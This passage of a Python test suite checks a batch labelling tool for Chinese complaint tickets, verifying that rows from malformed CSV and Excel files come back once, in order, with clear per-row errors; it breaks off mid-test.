"""Batch labelling: every row comes back exactly once, in order, labelled or with its error."""

from __future__ import annotations

import csv
import errno
import io
import json
import logging
import multiprocessing
import os
import re
import signal
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

import training.label
from model.artifact import ModelLoadError, OutputPathError
from model.settings import get_settings
from model.text import normalize
from model.tickets import ColumnMap, TicketFileError, read_tickets
from paidan.cli import app
from tests.conftest import (
    TINY_TICKETS,
    three_versions,
    without_progress,
    write_frame,
    write_tiny_csv,
)
from training.label import (
    CSV_FIELD_MIN,
    EVIDENCE_COLUMNS,
    PRED_COLUMNS,
    LabelError,
    check_text,
    label,
)

OUT_COLUMNS = ["id", "title", "text", *PRED_COLUMNS]


def read_output(path: Path) -> pd.DataFrame:
    """Read a labelled file back as strings (missing values as empty strings)."""
    suffix = path.suffix
    if suffix == ".csv":
        df = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    elif suffix == ".jsonl":
        lines = path.read_text(encoding="utf-8").splitlines()
        df = pd.DataFrame([json.loads(line) for line in lines])
    elif suffix == ".parquet":
        df = pd.read_parquet(path)
    else:
        df = pd.read_excel(path, dtype=str, keep_default_na=False)
    return df


def ticket_rows(n: int) -> list[list[str]]:
    """``n`` rows cycling through the tiny corpus, with unique ids."""
    return [
        [
            f"R{i:05d}",
            TINY_TICKETS[i % len(TINY_TICKETS)][0],
            TINY_TICKETS[i % len(TINY_TICKETS)][1],
        ]
        for i in range(n)
    ]


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with open(path, "w", encoding=encoding, newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "title", "text"])
        w.writerows(rows)
    return path


def test_check_text_names_each_problem() -> None:
    assert check_text("老板拖欠工资", 100) is None
    assert check_text("", 100).startswith("empty text")
    assert check_text(" \u3000\t\u200b ", 100).startswith("blank text")
    too_long = check_text("很" * 101, 100)
    assert too_long.startswith("text too long") and "101" in too_long and "100" in too_long


@given(
    st.text(alphabet=st.sampled_from("小 \u3000\t\u200b_x000D\x00\ufeffa1"), max_size=12)
    | st.text()
)
def test_check_text_calls_blank_exactly_what_normalises_to_nothing(text: str) -> None:
    blank = bool(text) and not normalize(text)
    problem = check_text(text, 10_000)
    assert (problem is not None and problem.startswith("blank text")) == blank


def test_nothing_lost_from_a_damaged_csv(tiny_model_dir: Path, tmp_path: Path) -> None:
    limit = get_settings().max_text_chars
    data = b"id,title,text\n"
    data += "A1,欠薪,老板拖欠工资三个月不发\n".encode()
    data += b"A2,empty,\n"
    data += 'A3,blank,"  \u3000 "\n'.encode()
    data += b"A4,long," + ("很" * (limit + 1)).encode() + b"\n"
    data += b"A5,too,many,fields\n"  # line 6
    data += b"A6,bytes,\xff\xfe not utf-8\n"  # line 7
    data += 'A7,油烟,"楼下烧烤店油烟\n很大"\n'.encode()  # lines 8-9: a legitimate multi-line field
    data += 'A8,"unclosed,电梯故障\n'.encode()  # line 10: a quote that is never closed
    data += "A9,电梯,电梯频繁故障困人\n".encode()  # line 11
    src = tmp_path / "damaged.csv"
    src.write_bytes(data)

    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1, chunk_size=4)
    df = read_output(tmp_path / "out.csv")

    assert list(df.columns) == OUT_COLUMNS
    assert len(df) == 9  # one row per input record, broken ones included
    errors = dict(zip(range(9), df["error"], strict=True))
    assert errors[0] == "" and df["pred_department"][0] == "人社"
    assert errors[1].startswith("empty text") and "line 3 of damaged.csv" in errors[1]
    assert errors[2].startswith("blank text") and "line 4" in errors[2]
    assert errors[3].startswith("text too long") and f"{limit:,}" in errors[3]
    assert errors[4].startswith("malformed CSV") and "line 6" in errors[4]
    assert "4 fields, the header has 3" in errors[4]
    assert errors[5].startswith("unreadable") and "line 7" in errors[5]
    assert errors[6] == "" and df["text"][6] == "楼下烧烤店油烟\n很大"
    assert errors[7].startswith("malformed CSV") and "line 10" in errors[7]
    assert errors[8] == "" and df["id"][8] == "A9"  # the row after the broken quote survives
    # Every id comes back in input order, the broken lines' too (read before the text).
    assert [i for i in df["id"] if i] == ["A1", "A2", "A3", "A4", "A5", "A6", "A7", "A8", "A9"]
    # Error rows carry no labels; labelled rows carry all of them.
    bad = df["error"] != ""
    assert (df.loc[bad, ["pred_department", "decision", "top3_departments"]] == "").all().all()
    assert df.loc[~bad, "decision"].isin(["auto", "review"]).all()
    assert df.loc[~bad, "pred_department_score"].astype(float).between(0, 1).all()

    s = result.summary
    assert s["rows"] == 9 == s["labelled"] + s["errors"]
    assert s["errors"] == 6 and s["labelled"] == 3
    assert s["auto"] + s["review"] == s["labelled"]
    assert sum(s["departments"].values()) == s["labelled"]
    assert s["errors_by_kind"] == {
        "empty text": 1,
        "blank text": 1,
        "text too long": 1,
        "malformed CSV": 2,
        "unreadable": 1,
    }
    saved = json.loads(result.summary_path.read_text(encoding="utf-8"))
    assert saved["rows"] == 9 and saved["errors"] == 6
    assert all(Path(p).is_file() for p in result.plots) and len(result.plots) == 2


@pytest.fixture
def default_csv_field_limit() -> Iterator[None]:
    """The csv module's own field limit, as in the CLI (scipy, imported by the tests, raises it)."""
    before = csv.field_size_limit(131_072)
    yield
    csv.field_size_limit(before)


@pytest.mark.usefixtures("default_csv_field_limit")
def test_an_over_long_multi_line_field_is_one_row_with_its_id(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A quoted text longer than the text limit (PAIDAN_MAX_TEXT_CHARS; under label's CSV field
    # limit, so the csv module reads it), over several lines, whose last line looks like a ticket
    # of its own: still one record, one row, with its id.
    long_text = ("油烟" * 35_000 + "\n") * 2 + "X1,邻居家狗叫,狗叫扰民严重"
    data = "id,title,text\nA1,路灯,小区路灯坏了很久没人修\n"
    data += f'A4,多行超长,"{long_text}"\nA5,噪音,楼上装修噪音太大\n'
    src = tmp_path / "long.csv"
    src.write_text(data, encoding="utf-8")

    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df["id"]) == ["A1", "A4", "A5"]  # no phantom X1, A4 once and with its id
    assert df["error"][0] == "" and df["error"][2] == ""
    error = df["error"][1]
    assert error.startswith("text too long") and f"{len(long_text):,} characters" in error
    assert "PAIDAN_MAX_TEXT_CHARS" in error and "line 3 of long.csv" in error
    assert result.summary["rows"] == 3 and result.summary["labelled"] == 2


def test_an_over_long_field_in_a_record_with_a_field_too_many_keeps_its_id(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A field over the CSV reader's limit (CSV_FIELD_MIN characters here) is read again by the
    # scanner; with a stray separator in its record, the error row still carries the id (the cells
    # before the title), as a record of normal length does.
    long_text = "油烟" * (CSV_FIELD_MIN // 2 + 1000)
    data = "id,title,text\nA1,路灯,小区路灯坏了很久没人修\n"
    data += f'A4,多行超长,"{long_text}",多余字段\nA5,噪音,楼上装修噪音太大\n'
    src = tmp_path / "long.csv"
    src.write_text(data, encoding="utf-8")

    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df["id"]) == ["A1", "A4", "A5"]
    assert df["error"][1] == (
        "malformed CSV: line 3 of long.csv: it has 4 fields, the header has 3"
    )
    assert df["title"][1] == "" and df["text"][1] == ""  # after the stray separator: not trusted
    assert result.summary["rows"] == 3 and result.summary["labelled"] == 2


def test_a_field_over_the_csv_readers_limit_is_one_row_too_long_with_its_id(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The scanner's own path (the csv module gives up on the field): one row, its cells as read
    # and the over-long one reported by its length, not a malformed record.
    long_text = "油烟" * (CSV_FIELD_MIN // 2 + 1000)
    data = f'id,title,text\nA4,超长,"{long_text}"\nA5,噪音,楼上装修噪音太大\n'
    src = tmp_path / "long.csv"
    src.write_text(data, encoding="utf-8")

    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df["id"]) == ["A4", "A5"] and df["title"][0] == "超长"
    assert df["error"][0].startswith("text too long") and "line 2 of long.csv" in df["error"][0]
    assert f"{len(long_text):,} characters" in df["error"][0] and df["error"][1] == ""


def test_lines_read_again_after_a_broken_record_come_back_unlabelled(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A record of several lines with a field too many: a quote not doubled, or a quote that joined
    # real rows. Its later lines are read again, so no row is lost; each comes back with its values
    # (to be joined back) and an error, never labelled: "D9" may be a piece of D1's text.
    data = 'id,title,text\nD1,标题,"小区门口路灯不亮\nD9,狗叫,邻居家狗整夜叫\n请处理",多余字段\n'
    data += "D2,噪音,楼上装修噪音太大\n"
    src = tmp_path / "extra.csv"
    src.write_text(data, encoding="utf-8")

    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df["id"]) == ["D1", "D9", "", "D2"]  # D1's id was read before the quote
    assert df["error"][0] == (
        "malformed CSV: line 2 of extra.csv: it has 4 fields, the header has 3 (lines 2-4: a "
        "quote that is not doubled?)"
    )
    for i, line in ((1, 3), (2, 4)):
        assert df["error"][i].startswith(f"malformed CSV: line {line} of extra.csv: read again")
        assert "lines 2-4" in df["error"][i] and "not labelled" in df["error"][i]
    assert df["pred_department"][1] == "" and df["error"][3] == ""
    assert result.summary["labelled"] == 1


def test_a_text_of_several_lines_read_again_after_a_broken_record_comes_back_once(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A stray quote before A2's text joins it to A3's first line. A3, whose text is quoted over two
    # lines, is then read again whole, and its second line was read again too, as a row of its own:
    # one stray quote gave 40,010 rows for 40,000 tickets, and a piece of A3's text was an id.
    data = (
        "id,title,text\nA1,路灯,路灯坏了\n"
        'A2,噪音,"楼上装修\nA3,油烟,"烧烤店\n油烟大，晚上也不停"\n'
        'A4,电梯,"电梯坏了\n困人"\nA5,噪音,楼下广场舞\n'
    )
    src = tmp_path / "stray.csv"
    src.write_text(data, encoding="utf-8")
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["id"]) == ["A1", "A2", "A3", "A4", "A5"]
    assert df["error"][1].startswith("malformed CSV: line 3 of stray.csv: text follows a closing")
    assert df["error"][2].startswith("malformed CSV: line 4 of stray.csv: read again after the")
    assert df["text"][2] == "烧烤店\n油烟大，晚上也不停"  # whole, not labelled
    assert df["pred_department"][2] == ""
    assert df["text"][3] == "电梯坏了\n困人" and (df["error"][[0, 3, 4]] == "").all()
    assert result.summary["labelled"] == 3 and result.summary["rows"] == 5


@pytest.mark.parametrize(
    ("header", "line", "kept", "fields"),
    [
        # too few fields: every cell as read, the columns the line lacks empty
        ("id,title,text", "6,只有两列", {"id": "6", "title": "只有两列", "text": ""}, 2),
        # too many: where the surplus separator is cannot be told, but it is in a text (ids hold
        # none), so the cells before the first text column (title) are kept: the id
        ("id,title,text", "7,a,b,c", {"id": "7", "title": "", "text": ""}, 4),
        ("id,time,text,title", "8,2024-01-05,a,b,c", {"id": "8", "time": "2024-01-05"}, 5),
        # an id after the text may be a piece of it: not kept
        ("text,title,id", "a,b,c,9", {"id": "", "title": "", "text": ""}, 4),
    ],
)
def test_a_line_with_the_wrong_number_of_fields_keeps_the_cells_that_can_be_trusted(
    tiny_model_dir: Path, tmp_path: Path, header: str, line: str, kept: dict[str, str], fields: int
) -> None:
    # An error row without its id cannot be joined back to the ticket system.
    src = tmp_path / "bad.csv"
    ok = {"id": "A1", "title": "路灯", "text": "小区路灯坏了很久没人修", "time": "2024-01-04"}
    names = header.split(",")
    src.write_text(f"{header}\n{','.join(ok[n] for n in names)}\n{line}\n", encoding="utf-8")
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert len(df) == 2 and df["error"][0] == ""
    assert df["error"][1] == (
        f"malformed CSV: line 3 of bad.csv: it has {fields} fields, the header has {len(names)}"
    )
    assert {c: df[c][1] for c in kept} == kept
    assert df["pred_department"][1] == ""


def test_rows_that_end_in_a_trailing_separator_are_said_once_for_the_file(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # An export ending every line with a separator gave each row its own "it has 4 fields, the
    # header has 3", 0 labelled and exit 0, and nothing said why for the file: on a million rows
    # the run was wasted. Each row keeps its error; the summary and one warning say it.
    src = tmp_path / "trailing.csv"
    src.write_text("id,title,text\n1,a,路灯不亮,\n2,b,噪音扰民,\n", encoding="utf-8")
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["error"]) == [
        f"malformed CSV: line {n} of trailing.csv: it has 4 fields, the header has 3"
        for n in (2, 3)
    ]
    assert result.summary["extra_empty_fields"] == {
        "trailing.csv": {"rows": 2, "of": 2, "where": "line 2 of trailing.csv", "header_fields": 3}
    }
    assert result.warnings == [
        "every row of trailing.csv (2 rows) has one more, empty, field than the header (the first "
        "on line 2 of trailing.csv, 4 fields, the header has 3): a trailing separator? They are "
        "not labelled, each with its error; end the header line with the separator too (in a copy "
        "of the file: the empty column is then read as 'Unnamed: 3') and label again"
    ]
    saved = json.loads(result.summary_path.read_text(encoding="utf-8"))
    assert saved["extra_empty_fields"] == result.summary["extra_empty_fields"]

    # Some rows only, beside a row with a field too many that is not empty (not counted), in a
    # second file with a tab as its separator.
    more = tmp_path / "more.tsv"
    more.write_text("id\ttitle\ttext\n3\tc\t漏水\t\n4\td\t停电\tx\n5\te\t欠薪\n", encoding="utf-8")
    result = label([src, more], tiny_model_dir, tmp_path / "out.csv", jobs=1, force=True)
    assert result.summary["extra_empty_fields"]["more.tsv"] == {
        "rows": 1,
        "of": 3,
        "where": "line 2 of more.tsv",
        "header_fields": 3,
    }
    assert result.warnings[0].endswith(
        "label again; 1 more file alike (out.csv.summary.json: extra_empty_fields)"
    )
    result = label([more], tiny_model_dir, tmp_path / "out.csv", jobs=1, force=True)
    assert result.warnings[0].startswith(
        "1 of the 3 rows of more.tsv has one more, empty, field than the header"
    )
    assert "? It is not labelled" in result.warnings[0]


@pytest.mark.parametrize(
    "data",
    [
        # a quote not doubled inside a text of two lines (a lenient reader makes one record of it)
        'id,title,text\nA1,路灯,"第一行路灯坏了\n第二行,已经一周,他说"马上修"但没人来"\nA2,噪音,楼上装修\n',
        # text after a closing quote, on a record that a later quoted field spreads over two lines
        'id,title,text\nA1,"foo"bar,"路灯坏了\n一周了"\nA2,噪音,楼上装修\n',
        # a stray quote that a later stray quote closes: the rows between would vanish into a field
        'id,title,text\nA1,路灯,"坏了\nB1,噪音,楼上\nB2,油烟,"烧烤\nA2,噪音,楼上装修\n',
    ],
)
def test_a_record_of_several_lines_a_strict_reader_refuses_is_reported_and_nothing_is_lost(
    tiny_model_dir: Path, tmp_path: Path, data: str
) -> None:
    from model.tickets import read_table

    src = tmp_path / "stray.csv"
    src.write_text(data, encoding="utf-8")
    # train refuses the record label reports, rather than train on a row label calls broken.
    end = data.count("\n") - 1
    with pytest.raises(
        TicketFileError, match=f"line 2: text follows a closing quote \\(lines 2-{end}"
    ):
        read_table(src)
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    lines = data.count("\n") - 1  # data lines
    assert len(df) == lines  # each line of the broken record comes back on its own
    assert df["error"][0].startswith("malformed CSV: line 2 of stray.csv: ")
    assert (df["error"][:-1] != "").all() and (df["pred_department"][:-1] == "").all()
    assert df["id"].iloc[-1] == "A2" and df["error"].iloc[-1] == ""
    assert result.summary["labelled"] == 1


@pytest.mark.parametrize(
    ("name", "data"),
    [
        # a quoted text over two lines, quotes doubled
        ("doubled", 'id,title,text\nA1,路灯,"第一行路灯坏了\n他说""马上修"""\nA2,噪音,楼上装修\n'),
        # a header cell with a space after its closing quote
        ("header", '"id" ,title,text\nA1,路灯,路灯坏了很久\nA2,噪音,楼上装修\n'),
        # text after a closing quote on a record of one line, the last one included: lenient
        ("oneline", 'id,title,text\nA1,"路灯"灯,路灯坏了很久\nA2,"噪音"x,楼上装修\n'),
    ],
)
def test_label_reads_the_records_train_reads(
    tiny_model_dir: Path, tmp_path: Path, name: str, data: str
) -> None:
    from model.tickets import read_table

    src = tmp_path / f"{name}.csv"
    src.write_text(data, encoding="utf-8")
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    trained = read_table(src)
    assert list(df["id"]) == list(trained["id"]) == ["A1", "A2"]
    assert list(df["text"]) == list(trained["text"])
    assert (df["error"] == "").all()


# Each data line of LINE_END_ROWS ends in turn with one of these (A2's quoted text spans two).
LINE_ENDS = {"lf": ["\n"], "crlf": ["\r\n"], "cr": ["\r"], "mixed": ["\r\n", "\n", "\r"]}
LINE_END_LINES = [
    "id,title,text",
    "A1,路灯,路灯坏了很久没人修",
    'A2,噪音,"楼上装修噪音太大',
    '每天早上七点就开始"',
    "A3,油烟,烧烤店油烟扰民",
    "A4,电梯,电梯频繁故障困人",
]


def write_line_ends(path: Path, ends: list[str]) -> Path:
    """LINE_END_LINES, line ``i`` ending with ``ends[i % len(ends)]``."""
    data = "".join(line + ends[i % len(ends)] for i, line in enumerate(LINE_END_LINES))
    path.write_bytes(data.encode("utf-8"))
    return path


@given(
    st.text(alphabet=st.sampled_from(["a", "路", "\r", "\n", ",", '"']), max_size=30),
    st.sampled_from([1, 2, 3, 1 << 16]),
    st.integers(min_value=0),
)
def test_csv_lines_end_where_pythons_universal_newlines_end_them(
    text: str, block: int, back: int
) -> None:
    # Cut from blocks of a few bytes too, so that a "\r\n" falls across two of them.
    from unittest import mock

    from training import label_io

    data = text.encode()
    with mock.patch.object(label_io, "_BLOCK", block, create=True):
        lines = label_io._Lines(io.BytesIO(data), "utf-8")
        items = list(iter(lines.read, None))
        assert [t for _, t, _, _ in items] == list(io.StringIO(text, newline=""))
        assert [data[o : o + len(t.encode())] for _, t, _, o in items] == [
            t.encode() for _, t, _, _ in items
        ]
        if items:
            lines.rewind(items[back % len(items)])
            assert list(iter(lines.read, None)) == items[back % len(items) :]


@pytest.mark.parametrize("style", list(LINE_ENDS))
def test_label_reads_every_line_end_as_train_does(
    tiny_model_dir: Path, tmp_path: Path, style: str
) -> None:
    # Old Mac Excel ends lines with "\r" alone, and an edited file can mix all three; Python's csv
    # (with newline="", as train reads) takes each as a line end, and so must label: neither
    # refusing the file nor making one row of two.
    from model.tickets import read_table
    from training.label_io import estimate_rows

    ends = LINE_ENDS[style]
    src = write_line_ends(tmp_path / f"{style}.csv", ends)
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    trained = read_table(src)
    assert list(df["id"]) == list(trained["id"]) == ["A1", "A2", "A3", "A4"]
    assert list(df["text"]) == list(trained["text"])
    assert df["text"][1] == f"楼上装修噪音太大{ends[2 % len(ends)]}每天早上七点就开始"
    assert (df["error"] == "").all() and result.summary["labelled"] == 4
    assert estimate_rows(src) == 4  # its records (a line end inside quotes is no new row)


def test_a_quote_open_at_the_end_of_the_file_is_named_and_the_rows_after_it_come_back(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    data = (
        'id,title,text\nB1,标题1,"文本没有闭合引号 路灯坏了\nB2,标题2,楼上噪音\nB3,标题3,油烟扰民\n'
    )
    src = tmp_path / "unclosed.csv"
    src.write_text(data, encoding="utf-8")

    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert len(df) == 3
    assert df["error"][0].startswith(
        "malformed CSV: line 2 of unclosed.csv: a quote opened on line 2"
    )
    assert "never closed" in df["error"][0]
    assert list(df["id"][1:]) == ["B2", "B3"] and (df["error"][1:] == "").all()


def test_blank_header_cells_are_named_as_pandas_names_them(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A blank header cell above notes, and a merely formatted one: "duplicate column names ''".
    import openpyxl

    from model.tickets import read_table

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "title", None, "text", None])
    ws.append(["A1", "欠薪", "备注", "老板拖欠工资三个月不发", None])
    ws["E1"].font = openpyxl.styles.Font(bold=True)
    src = tmp_path / "gaps.xlsx"
    wb.save(src)

    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df.columns[:5]) == ["id", "title", "Unnamed: 2", "text", "Unnamed: 4"]
    assert df["Unnamed: 2"][0] == "备注" and df["error"][0] == ""
    assert set(read_table(src).columns) <= set(df.columns)  # the names train reads


@pytest.mark.parametrize("ref", ["A1", "A1:C3", "A1:B7"])
def test_a_stale_sheet_dimension_loses_no_row_and_no_column(
    tiny_model_dir: Path, tmp_path: Path, ref: str
) -> None:
    # Exporters leave the declared size stale or "A1"; read-only openpyxl trusts it: rows past it
    # were dropped without a word, columns past it too (or the text column "was missing").
    import openpyxl

    from model.tickets import read_tickets
    from tests.training.test_tickets import with_dimension

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "title", "text", "department"])
    for row in ticket_rows(5):
        ws.append([*row, "住建局"])
    wb.save(tmp_path / "stale.xlsx")
    src = with_dimension(tmp_path / "stale.xlsx", ref)

    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df.columns[:4]) == ["id", "title", "text", "department"]
    assert df["id"].tolist() == [r[0] for r in ticket_rows(5)]
    assert (df["department"] == "住建局").all() and (df["error"] == "").all()
    assert read_tickets([src])["id"].tolist() == df["id"].tolist()  # as train reads it


def test_a_column_of_notes_without_a_header_cell_keeps_its_values_as_train_reads_it(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Read to its real end, a header row ends at its last written cell: the notes beyond it
    # need the sheet's declared width to be named, as pandas names them.
    import openpyxl

    from model.tickets import read_table

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "title", "text"])
    ws.append(["A1", "欠薪", "老板拖欠工资三个月不发", "备注"])
    wb.save(tmp_path / "notes.xlsx")

    label([tmp_path / "notes.xlsx"], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df.columns[:4]) == list(read_table(tmp_path / "notes.xlsx").columns)
    assert df["Unnamed: 3"].tolist() == ["备注"]


def test_a_date_in_an_east_asian_built_in_format_is_written_as_a_date(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Excel showed 2024年1月5日 (built-in format 31); the output held its serial number, 45296.375.
    from model.tickets import read_tickets
    from tests.training.test_tickets import east_asian_dates

    src = east_asian_dates(tmp_path / "dates.xlsx")
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert df["time"].tolist() == ["2024-01-05 09:00:00", "2024-01-06 10:30:00"]
    assert df["time"].tolist() == read_tickets([src])["time"].tolist()


def test_an_id_shown_zero_padded_is_written_as_shown_and_as_train_reads_it(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The number 123 with the format "00000" is 00123 in Excel; written as 123, the labels did
    # not join back to the sheet.
    from model.tickets import read_tickets
    from tests.training.test_tickets import zero_padded_ids

    src = zero_padded_ids(tmp_path / "ids.xlsx")
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert df["id"].tolist() == ["00123", "00124", "125", "00126"]
    assert df["id"].tolist() == read_tickets([src])["id"].tolist()


def test_a_row_of_excel_error_values_comes_back_as_an_error_row(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Read as empty cells, a row of failed lookups (every cell #N/A) was taken for a blank row
    # and left out of the output without a word ("2 rows" for 3), where train and evaluate name
    # it as a row with an empty text.
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "title", "text"])
    ws.append(["E1", "", TINY_TICKETS[0][1]])
    ws.append(["#N/A", "#N/A", "#N/A"])  # openpyxl writes these as error cells, as Excel does
    ws.append(["E3", "", TINY_TICKETS[1][1]])
    ws.append(["E5", "", TINY_TICKETS[2][1]])
    src = tmp_path / "lookups.xlsx"
    wb.save(src)
    assert ws["A3"].data_type == "e"

    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert len(df) == 4
    assert df["id"].tolist() == ["E1", "", "E3", "E5"]
    assert df["error"].tolist()[1].startswith("empty text")
    assert df["error"].tolist()[0::2] == ["", ""] and df["error"].tolist()[3] == ""


def test_a_blank_sheet_row_comes_back_as_train_counts_it(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Rows cleared by hand, a report's spacing: 104 rows in Excel came back as 102, the blank ones
    # left out without a word, where train names each as a row with an empty text. Blank rows
    # after the last one are no rows for either (a formatted, empty range).
    import openpyxl

    from model.tickets import read_table

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "title", "text"])
    ws.append([None, None, None])  # row 2, under the header
    ws.append(["B1", "", TINY_TICKETS[0][1]])
    ws.append([None, None, None])  # rows 4 and 5
    ws.append([None, None, None])
    ws.append(["B2", "", TINY_TICKETS[1][1]])
    for row in (7, 8):  # formatted but empty: openpyxl reads them as rows of empty cells
        ws.cell(row=row, column=1).number_format = "0.00"
    src = tmp_path / "blanks.xlsx"
    wb.save(src)

    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert len(df) == len(read_table(src)) == 5
    assert df["id"].tolist() == ["", "B1", "", "", "B2"]
    for i, row in ((0, 2), (2, 4), (3, 5)):
        assert df["error"][i] == f"empty text: the row is blank (row {row} of blanks.xlsx)"
    assert df["error"][1] == df["error"][4] == ""
    assert result.summary["errors_by_kind"] == {"empty text": 3}


def test_excel_error_values_are_empty_cells_as_train_reads_them(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A failed lookup saved as such (<c t="e"><v>#N/A</v></c>) was the text "#N/A" for label
    # (openpyxl's value) and an empty cell for train and evaluate (pandas): a row without a
    # complaint was labelled, and a title #VALUE! changed the scores.
    import openpyxl

    from model.tickets import read_tickets

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "title", "text"])
    ws.append(["E1", None, "#N/A"])  # openpyxl writes these as error cells, as Excel does
    ws.append(["E2", "#VALUE!", TINY_TICKETS[0][1]])
    ws.append(["E3", "#N/A", "#N/A"])
    ws["B4"].data_type = ws["C4"].data_type = "s"  # typed text that reads like an error: kept
    src = tmp_path / "errors.xlsx"
    wb.save(src)
    assert [ws.cell(r, c).data_type for r, c in ((2, 3), (3, 2), (4, 3))] == ["e", "e", "s"]

    label([src], tiny_model_dir, tmp_path / "out.jsonl", jobs=1)
    df = read_output(tmp_path / "out.jsonl").set_index("id")

    trained = read_tickets([src]).set_index("id")
    assert df[["title", "text"]].values.tolist() == trained[["title", "text"]].values.tolist()
    assert df.loc["E1", "text"] == "" and df.loc["E1", "error"].startswith("empty text")
    assert df.loc["E2", "title"] == "" and pd.isna(df.loc["E2", "error"])
    assert df.loc["E3", "text"] == "#N/A" and pd.isna(df.loc["E3", "error"])


def test_a_macro_enabled_workbook_is_labelled_like_an_xlsx(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Refused as "unsupported file type '.xlsm'"; its sheets are an .xlsx's.
    from tests.training.test_tickets import macro_enabled, zero_padded_ids

    src = macro_enabled(zero_padded_ids(tmp_path / "ids.xlsx"))
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert src.suffix == ".xlsm" and result.summary["labelled"] == 4
    assert df["id"].tolist() == ["00123", "00124", "125", "00126"]
    assert (df["pred_department"] != "").all()


def test_a_text_formula_saved_without_its_value_is_a_row_error_that_says_so(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Read as empty, the row's error was "empty text: the text column is empty".
    from tests.training.test_tickets import formula_texts

    src = formula_texts(tmp_path / "f.xlsx")
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert df["id"].tolist() == ["F1", "F2", "F3"]
    assert df["error"][0] == (
        "unsaved formula: row 2 of f.xlsx: column 'text' holds the formula '=B2&\"。\"&C2' saved "
        "without its value (a program that does not calculate formulas wrote the file); open and "
        "save the file in Excel, or export it with values"
    )
    assert df["error"][1] == ""
    assert df["error"][2].startswith("empty text: ")  # a formula whose saved result is empty


def test_a_title_formula_saved_without_its_value_is_a_row_error_as_a_text_one_is(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Only the text column was checked: the title read as empty, and the ticket was labelled
    # without it.
    from tests.training.test_tickets import formula_titles_and_labels

    src = formula_titles_and_labels(tmp_path / "f.xlsx")
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert df["id"].tolist() == ["F1", "F2", "F3"]
    assert df["error"][0] == (
        "unsaved formula: row 2 of f.xlsx: column 'title' holds the formula '=LEFT(C2,2)' saved "
        "without its value (a program that does not calculate formulas wrote the file); open and "
        "save the file in Excel, or export it with values"
    )
    # A department is not read by label: it is passed through, not checked.
    assert df["error"][1] == df["error"][2] == "" and df["pred_department"][1] != ""


def test_a_header_below_a_title_row_is_pointed_at_as_train_points_at_it(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    from model.tickets import read_tickets
    from tests.training.test_tickets import MAP, tickets_below_a_title

    src = tickets_below_a_title(tmp_path / "titled.xlsx")
    with pytest.raises(TicketFileError) as e:
